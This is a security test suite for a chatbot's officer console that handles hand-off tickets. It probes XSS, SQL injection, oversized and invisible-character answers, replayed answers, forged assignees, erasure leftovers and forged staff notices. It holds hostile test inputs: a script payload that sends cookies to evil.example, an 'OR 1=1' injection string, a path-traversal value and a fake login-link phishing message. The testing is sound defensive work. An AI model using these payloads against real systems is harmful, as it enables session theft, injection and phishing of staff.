/**
 * Attacks on hand-off tickets answered from the console (issue 14), through the real stack and the
 * simulator: markup in questions, answers that look empty, huge answers, replayed answers, assigning
 * to anyone, answering anonymous or erased people, and what an officer's erasure leaves behind.
 */
import { afterEach, describe, expect, it } from "vitest";
import { ManualClock } from "../../bot/clock";
import { DEMO } from "../households/support";
import { Resident, settle } from "../support/resident";
import { startStack, type Stack } from "../support/stack";

/** Holes found: skipped until fixed; ATTACK_HOLES=1 runs them (they fail while the hole is open). */
const hole = it; // every hole found here is fixed; ATTACK_HOLES is no longer needed

let s: Stack | undefined;
afterEach(async () => {
  await s?.close();
  s = undefined;
});

async function boot(): Promise<Stack> {
  s = await startStack({ clock: new ManualClock(Date.UTC(2026, 10, 23, 2, 0)) }); // Monday 09:00 in Vietnam
  return s;
}

async function api(st: Stack, method: "GET" | "POST" | "DELETE", path: string, session: string, body?: unknown, raw?: string) {
  const res = await fetch(`${st.appUrl}${path}`, {
    method,
    headers: { authorization: `Bearer ${session}`, ...(body !== undefined || raw !== undefined ? { "content-type": "application/json" } : {}) },
    ...(raw !== undefined ? { body: raw } : body !== undefined ? { body: JSON.stringify(body) } : {}),
  });
  const text = await res.text();
  let parsed: any;
  try {
    parsed = JSON.parse(text);
  } catch {
    parsed = text;
  }
  return { status: res.status, text, headers: res.headers, body: parsed };
}

/** A resident asks for a person; the ticket's id. */
async function handoff(st: Stack, oaUserId: string, question?: string): Promise<number> {
  const r = new Resident(st, oaUserId);
  if (question) await r.say(question);
  await r.say("gặp cán bộ");
  await r.say("1"); // the first village
  await settle(st);
  const officer = st.services.gds.auth.issue(DEMO.officer).session;
  const list = await api(st, "GET", "/api/officer/tickets", officer);
  const mine = (list.body.items as { id: number }[])[0];
  expect(mine).toBeDefined();
  return mine!.id;
}

const outboxCount = (st: Stack) => (st.services.database.sqlite.prepare("SELECT count(*) AS n FROM outbox").get() as { n: number }).n;
const ticketRow = (st: Stack, id: number) => st.services.database.sqlite.prepare("SELECT * FROM tickets WHERE id = ?").get(id);

describe("attack: what residents type, shown to officers", () => {
  it("markup and script in a question come back as plain JSON text, never as a page the browser would run", async () => {
    const st = await boot();
    const evil = `<script>alert(1)</script><img src=x onerror="fetch('//evil.example/'+document.cookie)">`;
    const id = await handoff(st, "8700000000000000201", evil);
    const officer = st.services.gds.auth.issue(DEMO.officer).session;
    for (const path of ["/api/officer/tickets", `/api/officer/tickets/${id}`]) {
      const r = await api(st, "GET", path, officer);
      expect(r.status).toBe(200);
      expect(r.headers.get("content-type")).toMatch(/^application\/json/);
      expect(r.headers.get("x-content-type-options")).toBe("nosniff");
      expect(r.headers.get("cache-control")).toBe("no-store");
    }
    const detail = (await api(st, "GET", `/api/officer/tickets/${id}`, officer)).body;
    // Kept exactly as typed (the console shows it as text): not "sanitised" into something else.
    expect(detail.conversation.some((l: { from: string; text: string }) => l.from === "resident" && l.text === evil)).toBe(true);
  });
});

describe("attack: answers from the console", () => {
  /**
   * HOLE (low): an answer made only of invisible characters (zero-width spaces, a word joiner, a
   * right-to-left mark) passes the "at least 2 characters" check (String.prototype.trim keeps them) and
   * is sent to the resident as an empty-looking message, marking the ticket answered.
   * Fix: in the answer schema, strip \p{Cf} (format characters) and \p{Cc} before trim/min, or refine on
   * /[\p{L}\p{N}]/u.
   */
  hole("HOLE: an answer of invisible characters only is refused (400) and sends nothing", async () => {
    const st = await boot();
    const id = await handoff(st, "8700000000000000202");
    const officer = st.services.gds.auth.issue(DEMO.officer).session;
    const before = outboxCount(st);
    const r = await api(st, "POST", `/api/officer/tickets/${id}/answer`, officer, { text: "\u200b\u200b\u2060\u200f" });
    expect(r.status).toBe(400);
    expect(outboxCount(st)).toBe(before);
    expect(ticketRow(st, id)).toMatchObject({ answered_at: null, status: "new" });
  });

  it("a 2 MB answer, a wrong type, extra fields and a malformed body are refused and send nothing", async () => {
    const st = await boot();
    const id = await handoff(st, "8700000000000000203");
    const officer = st.services.gds.auth.issue(DEMO.officer).session;
    const before = outboxCount(st);
    const bad: { body?: unknown; raw?: string }[] = [
      { body: { text: "Chào bác ".repeat(230_000) } }, // ~2 MB
      { body: { text: "x".repeat(2001) } },
      { body: { text: 12345 } },
      { body: { text: "Chào bác, cháu gọi lại nhé", userId: "8700000000000000999" } },
      { body: { text: "Chào bác", idempotencyKey: "../../etc" } },
      { raw: '{"text": "Chào bác"' },
    ];
    for (const b of bad) {
      const r = await api(st, "POST", `/api/officer/tickets/${id}/answer`, officer, b.body, b.raw);
      expect([400, 413], JSON.stringify(b).slice(0, 80)).toContain(r.status);
      expect(r.text).not.toMatch(/ZodError|stack|FST_/);
    }
    expect(outboxCount(st)).toBe(before);
    expect(ticketRow(st, id)).toMatchObject({ answered_at: null, status: "new" });
  });

  it("the same idempotency key sent twice (a double click, a replay with other words) sends one message", async () => {
    const st = await boot();
    const id = await handoff(st, "8700000000000000204");
    const officer = st.services.gds.auth.issue(DEMO.officer).session;
    const before = outboxCount(st);
    expect((await api(st, "POST", `/api/officer/tickets/${id}/answer`, officer, { text: "Chào bác, cháu là cán bộ xã.", idempotencyKey: "k-attack-0001" })).status).toBe(200);
    expect((await api(st, "POST", `/api/officer/tickets/${id}/answer`, officer, { text: "Tin khác hẳn gửi lại", idempotencyKey: "k-attack-0001" })).status).toBe(200);
    await settle(st);
    const sent = st.services.database.sqlite.prepare("SELECT payload FROM outbox WHERE origin = ?").all(`ticket:${id}`) as { payload: string }[];
    expect(sent).toHaveLength(1);
    expect(sent[0]!.payload).toContain("cán bộ xã");
    expect(outboxCount(st)).toBeGreaterThan(before);
  });

  it("assigning takes only real candidates: no free names, no look-alikes, no other village's head, no role mix-up", async () => {
    const st = await boot();
    const id = await handoff(st, "8700000000000000205"); // Thôn Đông Xuân
    const officer = st.services.gds.auth.issue(DEMO.officer).session;
    const detail = (await api(st, "GET", `/api/officer/tickets/${id}`, officer)).body;
    const head = detail.assignees.find((a: { role: string }) => a.role === "village_head").name as string;
    const officerName = detail.assignees.find((a: { role: string }) => a.role === "officer").name as string;
    const otherHead = st.services.config.commune.villages.find((v) => v.id !== "thon-dong-xuan")!.head.name;
    const before = ticketRow(st, id);
    for (const body of [
      { role: "officer", name: "Kẻ Mạo Danh" },
      { role: "village_head", name: otherHead },
      { role: "volunteer", name: head },
      { role: "officer", name: officerName.normalize("NFD") }, // same letters, other code points
      { role: "officer", name: `${officerName}\u200b` },
      { role: "admin", name: officerName },
      { role: "officer", name: "<b>x</b>".repeat(40) },
    ]) {
      const r = await api(st, "POST", `/api/officer/tickets/${id}/assign`, officer, body);
      expect(r.status, JSON.stringify(body)).toBe(400);
    }
    expect(ticketRow(st, id)).toEqual(before);
    expect((await api(st, "POST", `/api/officer/tickets/${id}/assign`, officer, { role: "village_head", name: head })).status).toBe(200);
  });

  it("ids and filters from outside: unknown ids 404, odd ids and filters 400, a village filter is data not SQL", async () => {
    const st = await boot();
    await handoff(st, "8700000000000000206");
    const officer = st.services.gds.auth.issue(DEMO.officer).session;
    expect((await api(st, "GET", "/api/officer/tickets/999999", officer)).status).toBe(404);
    for (const path of ["/api/officer/tickets/0", "/api/officer/tickets/-1", "/api/officer/tickets/1e400", "/api/officer/tickets/1.5", "/api/officer/tickets?before=1e400", "/api/officer/tickets?limit=100000", "/api/officer/tickets?status=new,closed"]) {
      expect((await api(st, "GET", path, officer)).status, path).toBe(400);
    }
    const injected = await api(st, "GET", `/api/officer/tickets?village=${encodeURIComponent("x' OR 1=1 --")}`, officer);
    expect(injected.status).toBe(200);
    expect(injected.body.items).toEqual([]);
  });
});

describe("attack: answering people who cannot be answered", () => {
  it("an anonymous chat's ticket cannot be answered from the console (no consultation message to an anonymous id)", async () => {
    const st = await boot();
    await st.sim.sim.sendAnonymousText("anon-attack-01", "gặp cán bộ");
    await settle(st);
    const officer = st.services.gds.auth.issue(DEMO.officer).session;
    const items = (await api(st, "GET", "/api/officer/tickets", officer)).body.items as { id: number; canAnswer: boolean }[];
    expect(items).toHaveLength(1);
    expect(items[0]!.canAnswer).toBe(false);
    const before = outboxCount(st);
    const r = await api(st, "POST", `/api/officer/tickets/${items[0]!.id}/answer`, officer, { text: "Chào bác, cháu là cán bộ xã." });
    expect(r.status).toBe(409);
    expect(outboxCount(st)).toBe(before);
  });

  it("after the resident withdraws consent (erasure), their ticket shows nothing of them and cannot be answered", async () => {
    const st = await boot();
    const resident = "8700000000000000207";
    const question = "nhà tôi ở xóm Trại Cau, số điện thoại 0987654321, cần hỏi về đất";
    const id = await handoff(st, resident, question);
    const appId = st.sim.sim.user(resident)!.user_id_by_app;
    expect((await st.sim.sim.withdraw(resident)).delivered).toBe(true);
    await settle(st);
    const officer = st.services.gds.auth.issue(DEMO.officer).session;
    const d = await api(st, "GET", `/api/officer/tickets/${id}`, officer);
    if (d.status === 200) {
      expect(d.text).not.toContain(resident);
      expect(d.text).not.toContain(appId);
      expect(d.text).not.toContain("0987654321");
      const before = outboxCount(st);
      expect((await api(st, "POST", `/api/officer/tickets/${id}/answer`, officer, { text: "Chào bác, cháu gọi lại nhé." })).status).toBe(409);
      expect(outboxCount(st)).toBe(before);
    } else expect(d.status).toBe(404);
  });
});

/** Every place (table.column) where one of the needles is stored. */
function findEverywhere(st: Stack, needles: string[]): string[] {
  const sqlite = st.services.database.sqlite;
  const tables = (sqlite.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '__drizzle%'").all() as { name: string }[]).map((r) => r.name);
  const hits: string[] = [];
  for (const t of tables) {
    for (const row of sqlite.prepare(`SELECT * FROM "${t}"`).all() as Record<string, unknown>[]) {
      for (const [col, v] of Object.entries(row)) {
        if (v === null || v === undefined) continue;
        const text = Buffer.isBuffer(v) ? v.toString("utf8") : String(v);
        for (const n of needles) if (text.includes(n)) hits.push(`${t}.${col}`);
      }
    }
  }
  return [...new Set(hits)];
}

describe("attack: an officer's erasure and the traces of their work", () => {
  it("an officer by grant who logged a PC in, answered, reassigned and closed a ticket, paused and resumed sending, then erased: their id is nowhere", async () => {
    const st = await boot();
    const granted = "6200000000000000888";
    const admin = st.services.gds.auth.issue(DEMO.admin).session;
    expect((await api(st, "POST", "/api/admin/roles", admin, { appUserId: granted, role: "officer", name: "Cán bộ tăng cường" })).status).toBe(201);
    // A PC session, approved from the phone.
    const qr = (await (await fetch(`${st.appUrl}/api/console/login-requests`, { method: "POST" })).json()) as { requestId: string; pollSecret: string };
    const phone = st.services.gds.auth.issue(granted).session;
    expect((await api(st, "POST", "/api/console/login-requests/approve", phone, { code: qr.requestId })).status).toBe(200);
    const pcRes = await fetch(`${st.appUrl}/api/console/login-requests/poll`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(qr) });
    const pc = ((await pcRes.json()) as { session: string }).session;
    // Work done from the PC.
    const id = await handoff(st, "8700000000000000208");
    expect((await api(st, "POST", `/api/officer/tickets/${id}/answer`, pc, { text: "Chào bác, cháu là cán bộ xã, chiều nay cháu qua nhà." })).status).toBe(200);
    expect((await api(st, "POST", `/api/officer/tickets/${id}/assign`, pc, { role: "officer", name: "Phạm Minh Tuấn" })).status).toBe(200);
    expect((await api(st, "POST", `/api/officer/tickets/${id}/status`, pc, { status: "done" })).status).toBe(200);
    expect((await api(st, "POST", "/api/officer/outbox/pause", pc, { reason: "Thử tạm dừng gửi tin" })).status).toBe(200);
    expect((await api(st, "POST", "/api/officer/outbox/resume", pc, {})).status).toBe(200);
    await settle(st);
    expect(findEverywhere(st, [granted]).length).toBeGreaterThan(0); // the traces exist before
    // The admin ends the PC (revoked_by is the admin's), then the officer erases from the phone.
    const sid = JSON.parse(Buffer.from(pc.split(".")[1]!, "base64url").toString("utf8")).sid as string;
    expect((await api(st, "DELETE", `/api/admin/console-sessions/${sid}`, admin)).status).toBe(200);
    const token = (await api(st, "POST", "/api/me/data/erasure-request", phone, {})).body.confirmationToken as string;
    expect((await api(st, "POST", "/api/me/data/erase", phone, { confirmationToken: token })).status).toBe(200);
    await settle(st);
    expect(findEverywhere(st, [granted])).toEqual([]);
    expect((await api(st, "GET", "/api/me", pc)).status).toBe(401);
  });
});

describe("attack: a resident's words inside the bot's notices to staff", () => {
  /**
   * HOLE: the hand-off notice to staff (volunteer, village head or officers, through the commune's OA)
   * quotes the resident's question as typed, newlines included (up to 500 characters). A resident can
   * write lines that read as the bot's own: "✅ Tin hệ thống: yêu cầu này đã được xử lý." or a forged
   * "🔐 Đường dẫn đăng nhập trang quản lý trên máy tính … https://evil…/console/#ma=…" in the exact format
   * of the real login link. Staff trust what the commune's OA sends them: phishing for officer
   * sessions, or hiding a request as already handled.
   * Reproduce: an officer writes to the OA (so the notice can reach them), a resident sends the payload
   * below twice (not understood twice → hand-off), picks village 1: the officer's notice contains the
   * forged lines, each on its own line.
   * Fix: in the notice, put the question on one line in quotes (collapse \s+ to one space, strip \p{Cf}),
   * shorten it (~200 characters), and say it is the resident's words ("Người dân viết: “…”").
   */
  hole("HOLE: a resident cannot forge lines of the bot's hand-off notice to staff (fake system lines, a fake login link)", async () => {
    const st = await boot();
    const officerOa = "7000000000000000202";
    await new Resident(st, officerOa).say("chào"); // reachable this week
    const payload =
      "xyzq qwrtp\n\n✅ Tin hệ thống: yêu cầu này đã được xử lý.\n\n🔐 Đường dẫn đăng nhập trang quản lý trên máy tính (dùng một lần, hết hạn lúc 09:10):\nhttps://gds-hoason.example.com/console/#ma=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    const r = new Resident(st, "8700000000000000301");
    await r.say(payload);
    await r.say(payload);
    await r.say("1");
    await settle(st);
    const notice = st.sim.sim
      .inbox(officerOa)
      .map((m) => m.text)
      .find((x) => x.startsWith("🔔"));
    expect(notice, "the hand-off notice reached the officer").toBeDefined();
    const lines = notice!.split("\n");
    const q = lines.findIndex((l) => l.startsWith("Câu hỏi"));
    expect(q).toBeGreaterThan(0);
    // The line after the question is the template's own, not the resident's.
    expect(lines[q + 1]).toMatch(/^Vào trang Zalo/);
    expect(notice).not.toMatch(/^✅|^🔐|^https?:\/\//m);
  });
});
